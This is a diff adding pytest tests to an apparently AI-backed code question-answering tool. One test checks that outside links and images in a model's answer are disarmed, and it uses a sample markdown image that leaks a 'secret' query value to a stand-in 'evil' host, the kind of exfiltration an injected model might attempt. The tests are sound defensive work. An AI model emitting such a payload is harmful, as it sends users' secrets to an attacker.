@@ -238,3 +238,26 @@ async def test_a_follow_up_is_told_what_it_refers_to(model: AnthropicServer) -> 
     asked = question_of(model, len(model.requests) - 1)
     assert "checkout" in asked
     assert "Known not to be found: Bank.vanish" in asked
+
+
+async def test_links_and_images_that_lead_outside_are_disarmed(model: AnthropicServer) -> None:
+    """A model that obeys what it read cannot make a reader load or follow anything."""
+    model.enqueue(
+        Message(pieces=[*"So [E1]. ![x](https://evil/p.png?q=secret) and [y](https://evil), [z](shop/a.md)."])
+    )
+    async with asking(model) as suite:
+        answer = await suite.answer()
+
+    assert answer.text == "So [1]. ![x] (`https://evil/p.png?q=secret`) and [y] (`https://evil`), [z](shop/a.md)."
+
+
+@pytest.mark.parametrize("dirty", [True, False])
+async def test_a_citation_of_a_changed_tree_has_no_link_to_its_commit(model: AnthropicServer, dirty: bool) -> None:
+    """The lines may be others there: the citation and the answer say so."""
+    model.enqueue(Message("So [E1]."))
+    async with asking(model, FakeRetriever(dirty=dirty), citation_url="https://x/{commit}/{path}") as suite:
+        answer = await suite.answer()
+
+    (citation,) = answer.citations
+    assert (citation.dirty, bool(citation.url)) == (dirty, not dirty)
+    assert ("differ from commit" in answer.disclaimer) == dirty
